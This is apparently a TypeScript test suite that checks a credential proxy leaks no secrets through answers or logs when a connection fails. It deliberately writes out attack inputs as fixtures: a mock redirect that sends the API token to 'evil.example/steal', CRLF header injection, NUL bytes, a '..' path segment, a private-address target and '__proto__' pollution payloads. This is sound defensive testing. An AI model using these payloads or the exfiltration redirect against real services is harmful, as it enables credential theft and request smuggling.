import { after, before, describe, mock, test } from 'node:test';
import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import dns from 'node:dns';
import { mkdtemp, rm } from 'node:fs/promises';
import { createServer } from 'node:net';
import { syncBuiltinESMExports } from 'node:module';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parseDefinition } from '../../src/server/platform/definitions.js';
import { createPlatform } from '../../src/server/platform/platform.js';
import type { Platform } from '../../src/server/platform/types.js';
import { createApp } from '../../src/server/proxy/app.js';
import type { ProblemCode } from '../../src/contract/index.js';
import { ADMIN_KEY, assertProblem, captureLogs, listen, mintSession, testConfig } from './proxy-fixtures.js';
import { startVendor } from './test-elements.js';

/**
 * What an attacker or a failing vendor can make of a connection attempt, through real HTTP, the
 * real proxy and platform (SQLite): no configuration value in any answer or log line, whatever fails.
 */
const CANARY = { user: `cnry-user-${randomUUID()}`, key: `cnry-key-${randomUUID()}`, partner: `cnry-partner-${randomUUID()}` };
const BASIC = Buffer.from(`${CANARY.user}:${CANARY.key}`).toString('base64');

/** A connection whose credentials land in a basic header, two plain headers and the query. */
const canary = (key: string, d: { hosts: string[]; baseUrl: string; sandbox: boolean }) =>
  parseDefinition(
    {
      key,
      name: 'Canary',
      description: '',
      categories: [],
      hosts: d.hosts,
      sandbox: d.sandbox,
      authenticationTypes: [
        {
          type: 'apiKey',
          name: 'API key',
          baseUrl: d.baseUrl,
          configuration: [
            { key: 'account', name: 'Account', type: 'TEXTFIELD_64', required: true },
            { key: 'user.name', name: 'User', type: 'TEXTFIELD_128', required: true },
            { key: 'api.key', name: 'API key', type: 'PASSWORD', required: true },
            { key: 'partner.key', name: 'Partner key', type: 'PASSWORD', required: true, companyConfig: true },
          ],
          credentials: {
            basic: { username: '{user.name}', password: '{api.key}' },
            headers: { 'x-api-key': '{api.key}', 'x-partner-key': '{partner.key}' },
            query: { token: '{api.key}' },
          },
          verify: { path: '/verify' },
        },
      ],
    },
    `test:${key}`,
  );

/** A port nothing listens on: taken, then freed. */
async function deadPort(): Promise<number> {
  const server = createServer();
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as { port: number };
  await new Promise<void>((resolve) => server.close(() => resolve()));
  return port;
}

describe('proxy hardening (SQLite)', () => {
  let vendor: Awaited<ReturnType<typeof startVendor>>;
  let platform: Platform;
  let server: Awaited<ReturnType<typeof listen>>;
  let dataDir: string;
  let dead: number;
  const logs = captureLogs();

  before(async () => {
    dead = await deadPort();
    // The account picks the vendor's behaviour; a good call echoes nothing back.
    vendor = await startVendor((req, res, url) => {
      const account = url.pathname.split('/')[2];
      if (account === 'hang') return;
      if (account === 'fail') return void res.writeHead(500).end(JSON.stringify(req.headers));
      if (account === 'reject') return void res.writeHead(401).end(JSON.stringify(req.headers));
      if (account === 'off')
        return void res.writeHead(302, { location: `https://evil.example/steal?t=${url.searchParams.get('token')}` }).end();
      if (account === 'port') return void res.writeHead(302, { location: `http://127.0.0.1:${dead}/c/ok/verify${url.search}` }).end();
      res.writeHead(200, { 'content-type': 'application/json' }).end('{}');
    });
    dataDir = await mkdtemp(join(tmpdir(), 'ce-hardening-'));
    const definitions = [
      canary('canary-local', { hosts: ['127.0.0.1'], baseUrl: '{$VENDOR_URL}/c/{account}', sandbox: true }),
      canary('canary-dead', { hosts: ['127.0.0.1'], baseUrl: '{$DEAD_URL}/c/{account}', sandbox: true }),
      canary('canary-remote', { hosts: ['*.canary.test'], baseUrl: 'https://{account}.canary.test', sandbox: false }),
    ];
    const secrets = Object.fromEntries(definitions.map((d) => [d.key, { 'partner.key': CANARY.partner }]));
    const vars = { VENDOR_URL: vendor.url, DEAD_URL: `http://127.0.0.1:${dead}` };
    const config = testConfig({ platform: { dataDir, definitions, secrets, development: true, vars, timeoutMs: 300 } });
    platform = await createPlatform({ ...config.platform, logger: logs.logger });
    server = await listen(createApp({ platform, config, logger: logs.logger }).fetch);
  });
  after(async () => {
    await server.close();
    await platform.close();
    await vendor.close();
    await rm(dataDir, { recursive: true, force: true });
  });

  const session = () => mintSession(server.url, ADMIN_KEY, { tenantId: `t-${randomUUID()}`, userId: 'u1' });
  const send = async (method: string, path: string, body: string, token?: string) =>
    fetch(`${server.url}${path}`, {
      method,
      headers: { Authorization: `Bearer ${token ?? (await session())}`, 'Content-Type': 'application/json' },
      body,
    });
  const connect = (element: string, configuration: Record<string, string>, token?: string) =>
    send('POST', '/instances', JSON.stringify({ element: { key: element }, authenticationType: 'apiKey', configuration }), token);
  const values = (account: string, key = CANARY.key) => ({ account, 'user.name': CANARY.user, 'api.key': key });

  test('no failure puts a credential in an answer or a log line', async () => {
    // The remote element's host names: one unknown to DNS, one that resolves inside the network.
    mock.method(dns.promises, 'lookup', async (host: string) => {
      if (host === 'inside.canary.test') return [{ address: '10.0.0.5', family: 4 }];
      throw Object.assign(new Error(`getaddrinfo ENOTFOUND ${host}`), { code: 'ENOTFOUND', hostname: host });
    });
    syncBuiltinESMExports();
    const cases: [what: string, element: string, configuration: Record<string, string>, code: ProblemCode][] = [
      ['a line break in a header value', 'canary-local', values('ok', `${CANARY.key}\r\nX-Injected: 1`), 'validation_failed'],
      ['a NUL in a header value', 'canary-local', values('ok', `${CANARY.key}\0`), 'validation_failed'],
      ['a header value beyond Latin-1', 'canary-local', values('ok', `${CANARY.key}€`), 'validation_failed'],
      ['a dot segment in the path', 'canary-local', values('..'), 'validation_failed'],
      ['a vendor that times out', 'canary-local', values('hang'), 'vendor_timeout'],
      ['a vendor that answers 500', 'canary-local', values('fail'), 'vendor_error'],
      ['a vendor that refuses the credentials', 'canary-local', values('reject'), 'credentials_rejected'],
      ['a redirect off the hosts', 'canary-local', values('off'), 'vendor_error'],
      ['a redirect to another port', 'canary-local', values('port'), 'vendor_error'],
      ['an unreachable vendor', 'canary-dead', values('ok'), 'vendor_unreachable'],
      ['a host DNS does not know', 'canary-remote', values('gone'), 'vendor_unreachable'],
      ['a host on a private address', 'canary-remote', values('inside'), 'address_refused'],
    ];
    try {
      for (const [what, element, configuration, code] of cases) {
        const res = await connect(element, configuration);
        const answer = await res.clone().text();
        await assertProblem(res, code);
        for (const secret of ['cnry', BASIC]) assert.ok(!answer.includes(secret), `${what}: answer ${answer}`);
      }
    } finally {
      mock.restoreAll();
      syncBuiltinESMExports();
    }
    const text = logs.text();
    assert.match(text, /vendor_unreachable/, 'the failures were logged');
    for (const secret of ['cnry', BASIC, encodeURIComponent(CANARY.key)]) assert.ok(!text.includes(secret), `log: ${text}`);
    assert.ok(!logs.lines().some((l) => l.level === 50), 'nothing was an unhandled error');
  });

  test('a header value that cannot be sent is shown beside its field, with the other field errors', async () => {
    const res = await connect('canary-local', { account: '..', 'user.name': 'u', 'api.key': 'k\r\nX-Injected: 1' });
    const body = await assertProblem(res, 'validation_failed');
    assert.deepEqual(
      body.errors?.map((e) => e.field),
      ['account', 'api.key'],
    );
    assert.equal(vendor.calls.filter((p) => p.includes('..')).length, 0);
  });

  test('a vendor connection error names no address or port; the log keeps the cause', async () => {
    const res = await connect('canary-dead', values('ok'));
    const body = await assertProblem(res, 'vendor_unreachable');
    assert.equal(body.detail, 'Canary could not be reached. Try again in a moment.');
    assert.ok(!JSON.stringify(body).includes('127.0.0.1') && !JSON.stringify(body).includes(String(dead)), JSON.stringify(body));
    const logged = logs
      .lines()
      .filter((l) => l.code === 'vendor_unreachable')
      .map((l) => JSON.stringify(l.err));
    assert.ok(
      logged.some((l) => l.includes(`ECONNREFUSED 127.0.0.1:${dead}`)),
      logged.join('\n'),
    );
  });

  test('configuration.__proto__ is an unknown key like any other, on POST and PATCH', async () => {
    const token = await session();
    const good = JSON.stringify(values('ok')).slice(1, -1);
    const created = await connect('canary-local', values('ok'), token);
    assert.equal(created.status, 201);
    const { id } = (await created.json()) as { id: string };
    for (const proto of ['{"polluted":true}', '"x"', '["a"]']) {
      // Written by hand: a JS object literal would set the prototype, not send the key.
      const configuration = `{${good},"__proto__":${proto}}`;
      const post = await send(
        'POST',
        '/instances',
        `{"element":{"key":"canary-local"},"authenticationType":"apiKey","configuration":${configuration}}`,
        token,
      );
      assert.deepEqual(
        (await assertProblem(post, 'validation_failed')).errors?.map((e) => e.field),
        ['__proto__'],
        `POST ${proto}`,
      );
      const patch = await send('PATCH', `/instances/${id}`, `{"configuration":${configuration}}`, token);
      assert.deepEqual(
        (await assertProblem(patch, 'validation_failed')).errors?.map((e) => e.field),
        ['__proto__'],
        `PATCH ${proto}`,
      );
    }
  });
});
